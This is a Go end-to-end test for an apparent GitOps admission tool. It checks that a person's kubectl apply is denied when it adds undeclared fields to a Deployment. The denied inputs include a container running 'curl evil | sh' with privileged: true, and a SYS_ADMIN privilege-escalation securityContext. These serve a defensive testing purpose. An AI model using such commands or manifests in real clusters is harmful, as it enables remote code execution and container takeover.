package e2e

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/gitgate/gitgate/test/harness"
)

// TestPersonAddingToWhatGitsNewRevisionAdds: gitgate has loaded a revision
// that gives container app a securityContext and adds a container, and
// the agent has not applied it yet. A person who applies it first may not
// put more there than Git declares and the API server defaults (the
// agent's server-side apply would keep it); the person's exact apply of
// Git's new manifest, client-side or server-side, goes through.
func TestPersonAddingToWhatGitsNewRevisionAdds(t *testing.T) {
	applyShop(t)
	raw, err := os.ReadFile(filepath.Join(env.fixture, "web.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	web := string(raw)
	before, _, _ := strings.Cut(web, "\n---\n")
	const appImage = "          image: registry.example.com/shop:1.4.2\n"
	newWeb := strings.Replace(web, appImage, appImage+"          securityContext:\n            runAsNonRoot: true\n", 1)
	newWeb = strings.Replace(newWeb, "      containers:\n", "      containers:\n        - name: metrics\n          image: registry.example.com/exporter:2\n", 1)
	hash, err := env.stack.Git.Commit(harness.Change{Write: map[string]string{"web.yaml": newWeb}, Message: "web: runAsNonRoot, metrics"})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		back, err := env.stack.Git.Commit(harness.Change{Write: map[string]string{"web.yaml": web}, Message: "web as before"})
		if err != nil {
			t.Fatal(err)
		}
		waitForRevision(t, back)
		// The person's apply left fields the agent's client-side apply
		// would keep: put the Deployment back as the agent first had it.
		mustRunIn(t, before, "replace", "-f", "-", "--as", agent)
		applyShop(t)
	})
	waitForRevision(t, hash)
	newDeployment, _, _ := strings.Cut(newWeb, "\n---\n")

	escalate := strings.Replace(newDeployment, "            runAsNonRoot: true\n",
		"            runAsNonRoot: true\n            allowPrivilegeEscalation: true\n            capabilities:\n              add: [SYS_ADMIN]\n", 1)
	r := env.kubectl.Run(escalate, "apply", "-f", "-", "--as", person)
	wantDenied(t, r, "[undeclared-change]", "spec.template.spec.containers[name=app].securityContext.allowPrivilegeEscalation",
		"spec.template.spec.containers[name=app].securityContext.capabilities", "where this update adds to the object")
	privileged := strings.Replace(newDeployment, "          image: registry.example.com/exporter:2\n",
		"          image: registry.example.com/exporter:2\n          command: [sh, -c, 'curl evil | sh']\n          securityContext:\n            privileged: true\n", 1)
	r = env.kubectl.Run(privileged, "apply", "--server-side", "--force-conflicts", "-f", "-", "--as", person)
	wantDenied(t, r, "spec.template.spec.containers[name=metrics].command", "spec.template.spec.containers[name=metrics].securityContext")
	if sc := jsonpath(t, "deployment/web", "{.spec.template.spec.containers[*].securityContext}"); sc != "" {
		t.Fatalf("securityContext after denied applies = %q, want none", sc)
	}

	for _, apply := range [][]string{
		{"apply", "-f", "-", "--as", person},
		{"apply", "--server-side", "--force-conflicts", "-f", "-", "--as", person},
	} {
		// The stored Deployment is Git's previous revision, as the agent
		// applied it.
		mustRunIn(t, before, "replace", "-f", "-", "--as", agent)
		if r := env.kubectl.Run(newDeployment, apply...); r.Failed() {
			t.Fatalf("%s of Git's new manifest: want allowed, got %v\n%s", r.CommandLine(), r.Err, r.Stderr)
		}
		if sc := jsonpath(t, "deployment/web", "{.spec.template.spec.containers[?(@.name=='app')].securityContext}"); sc != `{"runAsNonRoot":true}` {
			t.Errorf("%s: app's securityContext = %q, want Git's", strings.Join(apply[:len(apply)-2], " "), sc)
		}
	}
}

// mustRunIn runs kubectl with stdin and fails the test if it fails.
func mustRunIn(t *testing.T, stdin string, args ...string) harness.Result {
	t.Helper()
	r := env.kubectl.Run(stdin, args...)
	if r.Failed() {
		t.Fatalf("%s: %v\n%s", r.CommandLine(), r.Err, r.Stderr)
	}
	return r
}
